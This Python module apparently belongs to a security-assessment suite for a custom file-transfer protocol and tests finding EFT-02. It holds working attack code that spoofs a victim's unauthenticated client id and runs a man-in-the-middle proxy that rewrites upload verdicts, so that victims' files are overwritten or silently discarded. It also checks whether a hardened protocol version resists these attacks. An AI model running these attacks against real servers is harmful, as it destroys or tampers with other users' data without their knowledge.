"""Requests are not authenticated: the client id in the header is just 16 bytes.

A server that looks a client up by the header's id (the original design keeps the AES
key per client in its database) would act on anyone's 828, 900, 901 or 902 for that
id: overwrite the victim's file, confirm a file the victim is still checking, abort
it. ``--target`` sends such requests with the victim's id on a new connection, then on
a connection registered as ourselves; success if the server acts on any of them.

``--listen`` shows the same weakness from the middle: the verdicts are unauthenticated,
so we turn the victim's 900 (CRC ok) into 902 (give up). The server discards the file
and answers 1604, which the client takes as the answer to its 900: the client reports
the file stored, the server has nothing.

``--protocol 4``: the identity is the static key, proven in message 3, and every
record's header (the client id included) is authenticated. We register an identity of
our own and send each request as a record whose header carries the victim's id (the
server closes before reading it), then ask for the victim's name with our key (827:
1606, 825: 1601). In the middle, rewriting the victim's 900 into 902 breaks the
record's tag: the server closes without an answer and keeps the upload for a resume.
"""

from __future__ import annotations

import argparse
import asyncio
import os

from eft_protocol.codes import RequestCode, ResponseCode

from .common import (
    AttackError,
    ConnectionClosed,
    Link,
    Out,
    ServerLink,
    add_listen_argument,
    add_victim_arguments,
    own_session,
    victim_from_args,
)
from .framing import Frame, name_request, one_packet_attempt, request
from .proxy import Interceptor, MitmConnection, MitmProxy
from .v4 import CLOSED, add_protocol_argument, login, own_identity, register, wait_closed

FINDING = "EFT-02"
SUMMARY = "spoofed client id / rewritten verdicts act on a victim's files"

VERDICTS = (RequestCode.CRC_OK, RequestCode.CRC_RETRY, RequestCode.CRC_GIVE_UP)


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    add_listen_argument(parser)
    parser.add_argument("--mitm", action="store_true", help="rewrite the victim's 900 to 902")
    parser.add_argument("--file", default="report.txt", help="the victim's file name")
    parser.add_argument("--as", dest="own_name", default="mallory-spoof", help="our own name")
    parser.add_argument(
        "--linger",
        type=float,
        default=1.5,
        help="version 4: seconds to keep rewriting the verdicts of the client's reconnects "
        "after the first (1.5)",
    )
    add_victim_arguments(parser)
    add_protocol_argument(parser)


async def _spoofed(link: Link, victim_id: bytes, file_name: str) -> list[tuple[int, int]]:
    """Send an 828 and each verdict with the victim's id; (request, answer) pairs."""
    requests = [
        (RequestCode.SEND_FILE, one_packet_attempt(victim_id, file_name, os.urandom(32))),
        *((code, name_request(victim_id, code, file_name)) for code in VERDICTS),
    ]
    pairs = []
    for code, frame in requests:
        await link.send(frame)
        try:
            pairs.append((int(code), (await link.receive(3.0)).code))
        except ConnectionClosed:
            pairs.append((int(code), -1))
            break
        except AttackError:
            pairs.append((int(code), 0))  # no answer at all
    return pairs


async def direct(args: argparse.Namespace, out: Out) -> bool:
    victim = victim_from_args(args)
    link = await ServerLink.open(args.target)
    try:
        fresh = await _spoofed(link, victim.client_id, args.file)
    finally:
        await link.close()
    out.step("on a new connection, as the victim", answers=fresh)
    own = await own_session(args.target, f"{args.own_name}-{os.urandom(3).hex()}")
    try:
        bound = await _spoofed(own.link, victim.client_id, args.file)
    finally:
        await own.link.close()
    out.step("on our own registered connection, with the victim's id", answers=bound)
    acted = [
        (code, answer)
        for code, answer in fresh + bound
        if answer in (ResponseCode.FILE_RECEIVED, ResponseCode.ACKNOWLEDGED)
    ]
    if acted:
        return out.result(
            True, "the server acted on requests with a spoofed client id", acted=acted
        )
    return out.result(
        False,
        "every spoofed request was refused (1607): this server binds a connection to one "
        "client id and keeps the AES key per connection",
        answers=fresh + bound,
    )


class AbortVerdicts(Interceptor):
    def __init__(self, out: Out) -> None:
        self.out = out
        self.rewritten: list[str] = []
        self.acknowledged: list[str] = []

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if frame.code == RequestCode.CRC_OK:
            assert frame.client_id is not None
            name = frame.name_field()
            self.rewritten.append(name)
            conn.scratch["waiting"] = name
            self.out.step(f"rewrote the victim's 900 for {name!r} into 902")
            await conn.to_server(request(frame.client_id, RequestCode.CRC_GIVE_UP, frame.payload))
            return
        await conn.to_server(frame.raw)

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if frame.code == ResponseCode.ACKNOWLEDGED and conn.scratch.get("waiting"):
            self.acknowledged.append(conn.scratch.pop("waiting"))
        await conn.to_client(frame.raw)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        self.proxy.finish(bool(self.acknowledged))


async def direct_v4(args: argparse.Namespace, out: Out) -> bool:
    victim = victim_from_args(args)
    answers: list[tuple[int, int]] = []
    # On a new connection, before any handshake: the server wants message 1 exactly.
    link = await ServerLink.open(args.target)
    try:
        await link.send(request(victim.client_id, RequestCode.SEND_FILE, os.urandom(64), 4))
        closed, frames = await wait_closed(link)
        answers.append((RequestCode.SEND_FILE, CLOSED if closed and not frames else frames))
    finally:
        await link.close()
    # On connections registered as ourselves, records with the victim's id in the header:
    # an 828 when a file may start, a verdict when our own upload waits for one.
    for code in (RequestCode.SEND_FILE, *VERDICTS):
        own = await own_identity(args.target, f"{args.own_name}-{os.urandom(3).hex()}")
        try:
            if code == RequestCode.SEND_FILE:
                plaintext = os.urandom(40)
            else:
                answer = await own.upload("own.txt", b"ours\n", verdict=False)
                if answer != ResponseCode.FILE_RECEIVED:
                    raise AttackError(f"our own upload did not reach its 1603 ({answer})")
                plaintext = own.file_id.to_bytes(4, "little")
            await own.request(code, plaintext, client_id=victim.client_id)
            closed, frames = await own.silence()
            answers.append((int(code), CLOSED if closed and not frames else frames))
        finally:
            await own.close()
    out.step("records with the victim's id, on our own connections", answers=answers)
    intents = {}
    for code, attempt in ((RequestCode.RECONNECT, login), (RequestCode.REGISTER, register)):
        client, answer = await attempt(args.target, victim.name)
        await client.close()
        intents[str(int(code))] = answer
    out.step(f"intents for {victim.name!r} with our own key", answers=intents)
    acted = [(c, a) for c, a in answers if a != CLOSED]
    acted += [(int(c), a) for c, a in intents.items() if a in (1600, 1605)]
    if acted:
        return out.result(True, "the server acted on a request for the victim", acted=acted)
    return out.result(
        False,
        "every record carrying the victim's id was met with a silent close, and its name "
        "with another key got 1606 (log in) and 1601 (register)",
        answers=answers,
        intents=intents,
    )


class AbortVerdictsV4(Interceptor):
    """Rewrite the code of the victim's 900 record to 902; the tag covers the header."""

    def __init__(self, out: Out) -> None:
        self.out = out
        self.rewritten = 0
        self.answered: list[int] = []  # what the server sent after a rewritten record
        self.verified_by_client = False

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if frame.code == RequestCode.CRC_OK and frame.version == 4:
            raw = bytearray(frame.raw)
            raw[17:19] = int(RequestCode.CRC_GIVE_UP).to_bytes(2, "little")
            self.rewritten += 1
            conn.scratch["tampered"] = True
            self.out.step(f"connection {conn.number}: rewrote the victim's 900 record into 902")
            await conn.to_server(bytes(raw))
            return
        await conn.to_server(frame.raw)

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if conn.scratch.get("tampered"):
            self.answered.append(frame.code)
        await conn.to_client(frame.raw)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        if conn.scratch.get("tampered"):
            self.proxy.finish(bool(self.answered))


async def mitm_v4(args: argparse.Namespace, out: Out) -> bool:
    interceptor = AbortVerdictsV4(out)
    proxy = MitmProxy(args.target, interceptor, out)
    await proxy.start(args.listen)
    try:
        await asyncio.wait_for(asyncio.shield(proxy.done), args.timeout)
        # The client reconnects after the silent close; rewrite its next 900 as well.
        await asyncio.sleep(args.linger)
    finally:
        await proxy.stop()
    if interceptor.answered:
        return out.result(
            True, "the server answered a rewritten verdict", answers=interceptor.answered
        )
    return out.result(
        False,
        f"rewrote {interceptor.rewritten} verdict record(s); the server closed each "
        "connection without an answer, so the client never took a 1604 for its 900",
        rewritten=interceptor.rewritten,
        server_answers_after_tamper=interceptor.answered,
    )


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol == 4:
        return await (mitm_v4(args, out) if args.mitm else direct_v4(args, out))
    if not args.mitm:
        return await direct(args, out)
    interceptor = AbortVerdicts(out)
    success = await MitmProxy(args.target, interceptor, out).run(args.listen, args.timeout)
    return out.result(
        success,
        f"the server discarded {interceptor.acknowledged} on our 902 and acknowledged it; "
        "the client took the 1604 as the answer to its 900",
        aborted=interceptor.acknowledged,
    )
